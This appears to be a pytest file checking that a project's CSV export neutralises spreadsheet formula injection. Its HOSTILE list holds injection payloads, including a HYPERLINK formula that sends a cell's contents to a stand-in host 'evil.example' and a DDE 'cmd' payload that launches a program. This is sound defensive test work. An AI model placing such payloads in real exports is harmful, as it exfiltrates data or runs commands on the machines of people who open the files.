"""The tables: complete, in the form that the page promises, and inert."""

from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path

import pytest

from macros.api.files import files
from macros.api.table import columns_of, inert
from macros.page import Settings
from tests.conftest import FIXTURES, PROJECT, judged
from toolbox.model.kinds import KINDS

#: What spreadsheets have computed, or run, when it stood at the beginning of a cell.
HOSTILE = [
    '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u00a0=1+1",
    "\ufeff=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "'=1+1",
    "''=1+1",
]
HARMLESS = ["", "words", "1 - 2", "a=b", "'quoted'", "https://www.example.eu/?a=b", "€ 5", 'a "b", c; d', "line\nline"]


def as_written(cell: str) -> str:
    """As the page on open data tells programs to read a cell."""
    return cell[1:] if re.match(r"'+\s*[=+\-@＝＋－＠\t\r\n\ufeff]", cell) else cell


def rows(content: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def tables(root: Path) -> dict[str, bytes]:
    made = dict(files(judged(root).catalogue, Settings(edition="2027.1"), {}))
    return {kind: made[f"api/v1/{kind}.csv"] for kind in KINDS}


@pytest.mark.parametrize("text", HOSTILE)
def test_a_text_that_could_be_a_formula_is_made_inert_and_can_be_read_back(text: str) -> None:
    assert inert(text) == f"'{text}"
    assert as_written(inert(text)) == text


@pytest.mark.parametrize("text", HARMLESS)
def test_other_text_stays_as_it_is(text: str) -> None:
    assert inert(text) == text
    assert as_written(text) == text


def test_a_cell_is_cut_where_a_spreadsheet_would_cut_it() -> None:
    assert len(inert("x" * 40_000)) == 32_767
    assert inert("x" * 40_000).endswith("x…")
    assert len(inert("=" * 40_000)) == 32_767


@pytest.mark.parametrize("root", [FIXTURES / "good", PROJECT], ids=["miniature", "real"])
def test_there_is_one_row_an_entry_and_the_columns_are_those_of_the_kind(root: Path) -> None:
    catalogue = judged(root).catalogue
    for kind, content in tables(root).items():
        found = rows(content)
        assert [row["ref"] for row in found] == [str(entry.ref) for entry in catalogue.of_kind(kind)]
        for row, entry in zip(found, catalogue.of_kind(kind), strict=True):
            assert list(row) == list(columns_of(kind))
            assert as_written(row["title"]) == entry.title
            assert row["phases"].split("; ") == list(entry.phases)


def test_the_columns_stay(expect) -> None:
    text = "".join(f"{kind}.csv {column}\n" for kind in sorted(KINDS) for column in columns_of(kind))
    expect("api/v1-columns.txt", text)


def test_the_form_is_that_of_rfc_4180_with_a_byte_order_mark() -> None:
    content = tables(FIXTURES / "good")["practices"]
    assert content.startswith(b'\xef\xbb\xbf"ref","title"')
    assert content.endswith(b'"\r\n')
    assert len(content.decode("utf-8-sig").split('"\r\n"')) == 3, "a head and two rows, each cell in quotes"


def hostile(root: Path) -> Path:
    """The miniature with an entry in which everything that may begin with a sign does."""
    path = root / "toolbox/entries/practices/agree-the-key.yml"
    text = path.read_text(encoding="utf-8")
    for before, after in (
        ("title: Agree the key before the budget", f"title: {json.dumps(HOSTILE[0])}"),
        ("summary: Partners write down", 'summary: "@SUM(1,1) Partners write down'),
        ("before anyone asks for money.", 'before anyone asks for money."'),
        ("- How often partners change the key later.", f"- {json.dumps(HOSTILE[1])}"),
        ("keywords: [cost key,", 'keywords: ["+1+1", cost key,'),
        ("who: Lead buyer", 'who: "-1+1"'),
    ):
        assert before in text, before
        text = text.replace(before, after, 1)
    path.write_text(text, encoding="utf-8")
    return root


def test_a_hostile_entry_has_no_cell_that_computes(miniature: Path) -> None:
    content = tables(hostile(miniature))["practices"]
    row = next(row for row in rows(content) if row["ref"] == "practices/agree-the-key")
    assert as_written(row["title"]) == HOSTILE[0]
    assert as_written(row["summary"]).startswith("@SUM(1,1) Partners")
    assert as_written(row["unknowns"]) == HOSTILE[1]
    assert as_written(row["keywords"]).startswith("+1+1; cost key")
    assert as_written(row["steps"]).startswith("-1+1: ")
    for one in rows(content):
        assert not [cell for cell in one.values() if re.match(r"\s*[=+\-@]|[\t\r\n]", cell)]
